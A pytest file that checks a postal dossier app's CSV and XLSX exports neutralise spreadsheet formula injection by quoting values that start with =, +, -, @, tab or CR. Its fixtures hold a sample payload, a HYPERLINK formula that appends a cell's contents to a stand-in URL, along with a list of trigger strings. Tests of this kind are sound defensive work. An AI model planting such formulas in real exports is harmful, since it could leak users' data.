"""Every CSV and XLSX the app writes is safe to open in a spreadsheet: text beginning with =, +,
-, @, tab or CR (OWASP "CSV injection") is prefixed with a single quote and, in XLSX, stored as
text, never as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from postal.core.time import TZ
from postal.extensions import db
from postal.models import Dossier
from postal.reporting import sheets
from tests.intake_factories import applicant, committing_client

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
STREET = "+SUM(1,2)"
TRIGGERS = ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1")


@pytest.fixture
def client(app):
    return committing_client(app)


@pytest.fixture
def procedure(make_procedure):
    return make_procedure(code="1.000001")


@pytest.fixture
def accepted(client, make_user, api_token, procedure):
    """A dossier accepted at the counter (through the API) for an applicant named like a
    formula, living at a street that starts with "+"."""
    clerk = make_user("clerk")
    body = {"procedure_code": procedure.code, "channel": "counter", "return_method": "counter",
            "documents": ["d1"],
            "applicant": applicant(full_name=FORMULA,
                                   address={"street": STREET, "ward_code": "18304"})}
    response = client.post("/api/v1/dossiers", json=body, headers=api_token(clerk))
    assert response.status_code == 201, response.get_json()
    return db.session.get(Dossier, db.session.query(Dossier.id).one()[0])


@pytest.fixture
def period(accepted) -> dict:
    day = accepted.received_at.astimezone(TZ).date().isoformat()
    return {"from": day, "to": day}


@pytest.fixture
def manager(make_user, login, accepted):
    user = make_user("manager")
    login(user)
    return user


def _cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_safe_xlsx(data: bytes, *expected: str) -> list:
    cells = _cells(data)
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for value in texts:
        assert not value.startswith(sheets.TRIGGERS), value
    for value in expected:
        assert "'" + value in texts, (value, texts)
    return cells


def test_the_dossier_list_in_csv_quotes_a_formula_name(client, manager, period):
    response = client.get("/office/dossiers.csv", query_string={**period, "figure": "received"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r["applicant_name"] for r in rows] == ["'" + FORMULA]
    for row in rows:
        assert not any(v.startswith(sheets.TRIGGERS) for v in row.values()), row


def test_the_dossier_list_in_xlsx_has_text_not_formulas(client, manager, period):
    response = client.get("/office/dossiers.xlsx", query_string={**period, "figure": "received"})
    assert response.status_code == 200
    _assert_safe_xlsx(response.data, FORMULA)


def test_the_register_in_xlsx_has_text_not_formulas(client, manager, period):
    response = client.get("/office/register.xlsx", query_string=period)
    assert response.status_code == 200
    cells = _assert_safe_xlsx(response.data, FORMULA)
    # the address begins with the street: "+SUM(1,2), Xã …"
    assert any(c.value.startswith("'" + STREET) for c in cells if isinstance(c.value, str))
    numbers = [c for c in cells if c.column == 1 and c.row > 2]
    assert [(c.value, c.data_type) for c in numbers] == [(1, "n")]  # the row number


def test_the_report_downloads_keep_numbers_as_numbers(client, manager, period):
    text = client.get("/office/report.csv", query_string=period).data.decode("utf-8-sig")
    rows = {r["figure"]: r["value"] for r in csv.DictReader(io.StringIO(text))}
    assert rows["received"] == "1" and rows["received_counter"] == "1"
    data = client.get("/office/report.xlsx", query_string=period).data
    cells = _assert_safe_xlsx(data)
    by_key = {c.value: c for c in cells if c.column == 2}
    value = next(c for c in cells if c.row == by_key["received"].row and c.column == 3)
    assert (value.value, value.data_type) == (1, "n")


def test_the_command_line_exports_quote_a_formula_name(app, runner, accepted, period,
                                                       tmp_path):
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        result = runner.invoke(args=["export-dossiers", "--from", period["from"], "--to",
                                     period["to"], "--format", fmt, "--output", str(out)])
        assert result.exit_code == 0, result.output
        if fmt == "xlsx":
            _assert_safe_xlsx(out.read_bytes(), FORMULA)
        else:
            rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
            assert rows[0]["applicant_name"] == "'" + FORMULA


@pytest.mark.parametrize("text", TRIGGERS)
def test_every_trigger_is_defused_in_csv_and_xlsx(text):
    out = io.StringIO()
    sheets.csv_writer(out).writerow([text, -5, 2.5, None, "an ordinary name"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'" + text, "-5", "2.5", "", "an ordinary name"]
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(sheets.xlsx_row(sheet, [text, -5, 2.5, None, "#N/A", "ok"]))
    saved = io.BytesIO()
    book.save(saved)
    cells = [c for row in load_workbook(saved).worksheets[0].iter_rows() for c in row]
    assert [(c.value, c.data_type) for c in cells] == [
        ("'" + text.replace("\r", "\n"), "s"),  # XML reads a stored CR back as LF
        (-5, "n"), (2.5, "n"), (None, "n"), ("#N/A", "s"), ("ok", "s")]


def test_text_that_only_looks_like_a_number_is_still_defused():
    """"-5" as text is what a clerk typed, not a number the app computed: it is quoted too."""
    assert sheets.defuse("-5") == "'-5"
    assert sheets.defuse(-5) == -5 and sheets.defuse(0.5) == 0.5
    assert sheets.defuse("Nguyễn Văn An") == "Nguyễn Văn An" and sheets.defuse("") == ""


@pytest.mark.parametrize("text", [*TRIGGERS, "'quoted", "plain", "", 7])
def test_an_export_read_back_gives_the_text_as_typed(text):
    assert sheets.restore(sheets.defuse(text)) == text

